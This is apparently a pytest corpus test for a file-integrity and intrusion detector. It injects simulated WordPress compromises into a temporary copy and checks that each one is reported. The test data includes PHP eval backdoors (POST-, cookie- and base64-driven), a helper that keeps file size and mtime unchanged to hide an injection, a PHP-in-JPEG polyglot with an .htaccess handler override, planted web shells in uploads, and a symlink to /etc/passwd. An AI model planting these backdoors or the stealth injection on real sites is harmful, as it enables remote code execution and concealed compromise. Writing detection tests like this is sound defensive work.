"""The intrusion scenario on real WordPress (Debian package, fetched by scripts/fetch-corpus).

Same questions as test_compare on the small site, at real scale: 2,600 files, real symlinks out of the
tree (Debian links into /usr/share/javascript and /etc), real PHP around the injected lines.
"""

from __future__ import annotations

import os
import shutil
import tarfile
from dataclasses import dataclass
from pathlib import Path

import pytest
from acme_site import JPEG, SHELL, git

from webhunt.detect.engine import default_engine
from webhunt.diff.compare import DiffOptions, DiffResult, compare
from webhunt.diff.manifest import save_manifest
from webhunt.diff.sources import Limits
from webhunt.model import Change, ChangeKind, Severity

CORPUS = Path(__file__).resolve().parents[2] / ".cache" / "corpus"

pytestmark = [pytest.mark.corpus, pytest.mark.slow]

EVAL = "@eval($_POST['wp_cache']);"
CONFIG = "if (isset($_COOKIE['wp_sess'])) { @eval(base64_decode($_COOKIE['wp_sess'])); }"
STOMP = "\t@assert($_REQUEST['t']);"


def wordpress_root() -> Path:
    found = sorted(CORPUS.glob("wordpress/**/wp-includes/version.php"))
    if not found:
        if os.environ.get("CI") == "true":
            pytest.fail(f"WordPress missing from the corpus at {CORPUS}: scripts/fetch-corpus must run first")
        pytest.skip(f"WordPress missing from the corpus at {CORPUS} (run scripts/fetch-corpus)")
    return found[0].parent.parent


def insert_after(path: Path, marker: str, line: str) -> int:
    lines = path.read_text().split("\n")
    at = next(i for i, text in enumerate(lines) if marker in text) + 1
    lines.insert(at, line)
    path.write_text("\n".join(lines))
    return at + 1


def inject_same_size(path: Path, marker: str, line: str) -> int:
    """Insert ``line`` and shorten the longest docblock line by as much: same size, same mtime."""
    before = path.stat()
    lines = path.read_text().split("\n")
    at = next(i for i, text in enumerate(lines) if marker in text) + 1
    lines.insert(at, line)
    doc = max((i for i, t in enumerate(lines) if t.lstrip().startswith("* ")), key=lambda i: len(lines[i]))
    lines[doc] = lines[doc][: -(len(line) + 1)]
    path.write_text("\n".join(lines))
    assert path.stat().st_size == before.st_size
    os.utime(path, ns=(before.st_atime_ns, before.st_mtime_ns))
    return lines.index(line) + 1


@dataclass(frozen=True)
class WP:
    live: Path
    untouched: Path
    specs: dict[str, str]
    inserted: dict[str, int]


@pytest.fixture(scope="module")
def wp(tmp_path_factory: pytest.TempPathFactory) -> WP:
    src = wordpress_root()
    base = tmp_path_factory.mktemp("wp")
    baseline = base / "wordpress"
    shutil.copytree(src, baseline, symlinks=True)
    untouched = base / "untouched"
    shutil.copytree(baseline, untouched, symlinks=True)
    live = base / "live"
    shutil.copytree(baseline, live, symlinks=True)

    inserted = {
        "index.php": insert_after(live / "index.php", "define( 'WP_USE_THEMES'", EVAL),
        "wp-config.php": insert_after(live / "wp-config.php", "<?php", CONFIG),
        "wp-includes/functions.php": inject_same_size(
            live / "wp-includes/functions.php", "function wp_timezone_string() {", STOMP
        ),
    }
    uploads = live / "wp-content/uploads/2024/01"
    uploads.mkdir(parents=True)
    (uploads / "x.php").write_text(SHELL)
    (live / "wp-includes/ID3/readme.txt").rename(live / "wp-includes/ID3/readme.php")
    (live / "wp-includes/ID3/readme.php").write_text(SHELL)
    (live / "wp-content/uploads/.htaccess").write_text("AddType application/x-httpd-php .jpg\n")
    (uploads / "cat.jpg").write_bytes(JPEG + b"<?php @eval($_POST['z']); ?>")
    (live / "wp-admin/install.php").unlink()
    os.chmod(live / "wp-load.php", 0o666)
    (live / "wp-links-opml.php").unlink()
    os.symlink("/etc/passwd", live / "wp-links-opml.php")

    tgz = base / "wordpress.tar.gz"
    with tarfile.open(tgz, "w:gz") as tf:
        tf.add(baseline, arcname="wordpress")
    specs = {
        "directory": str(baseline),
        "tar.gz": str(tgz),
        "manifest": save_manifest(str(baseline), str(base / "wp.jsonl.gz")).path,
    }
    repo = base / "repo"
    shutil.copytree(baseline, repo, symlinks=True)
    git(repo, "init", "-q")
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "wordpress")
    specs["git"] = f"{repo}@HEAD"
    return WP(live, untouched, specs, inserted)


EXPECTED: dict[str, tuple[ChangeKind, Severity | None]] = {
    "index.php": (ChangeKind.MODIFIED, Severity.CRITICAL),
    "wp-config.php": (ChangeKind.MODIFIED, Severity.CRITICAL),
    "wp-includes/functions.php": (ChangeKind.MODIFIED, Severity.CRITICAL),
    "wp-content/uploads/2024/01/x.php": (ChangeKind.ADDED, Severity.HIGH),
    "wp-includes/ID3/readme.txt": (ChangeKind.DELETED, Severity.LOW),
    "wp-includes/ID3/readme.php": (ChangeKind.ADDED, Severity.HIGH),
    "wp-content/uploads/.htaccess": (ChangeKind.ADDED, Severity.HIGH),
    "wp-content/uploads/2024/01/cat.jpg": (ChangeKind.ADDED, Severity.HIGH),
    "wp-admin/install.php": (ChangeKind.DELETED, Severity.LOW),
    "wp-load.php": (ChangeKind.MODE, Severity.MEDIUM),
    "wp-links-opml.php": (ChangeKind.MODE, Severity.HIGH),
}


def run(live: Path, spec: str) -> DiffResult:
    opts = DiffOptions(limits=Limits(allow_links_out=True))
    return compare(str(live), spec, default_engine().detect, opts)


def by_path(result: DiffResult) -> dict[str, Change]:
    paths = [c.relpath for c in result.changes]
    assert len(paths) == len(set(paths))
    return {c.relpath: c for c in result.changes}


@pytest.mark.parametrize("form", ["directory", "tar.gz", "manifest", "git"])
def test_untouched_wordpress_reports_nothing(wp: WP, form: str) -> None:
    result = run(wp.untouched, wp.specs[form])
    assert result.changes == ()
    assert result.entries > 2500


@pytest.mark.parametrize("form", ["directory", "tar.gz", "manifest", "git"])
def test_wordpress_intrusion_reported_once_each(wp: WP, form: str) -> None:
    got = by_path(run(wp.live, wp.specs[form]))
    want = dict(EXPECTED)
    if form == "git":
        del want["wp-load.php"]  # git keeps no permission bits beyond "executable"
    assert {rel: c.kind for rel, c in got.items()} == {rel: k for rel, (k, _) in want.items()}
    for rel, (_, sev) in want.items():
        verdict = got[rel].verdict
        assert verdict is not None and verdict.severity is not None and sev is not None
        assert verdict.severity >= sev, (rel, verdict)
    if form != "manifest":
        for rel, line in wp.inserted.items():
            c = got[rel]
            assert (line, line) in c.inserted
            r = next(r for r in c.verdict.reasons if r.id == "WH-DIFF-INSERTED-CODE")  # type: ignore[union-attr]
            assert r.line == line and r.snippet.strip() in (EVAL, CONFIG, STOMP.strip())
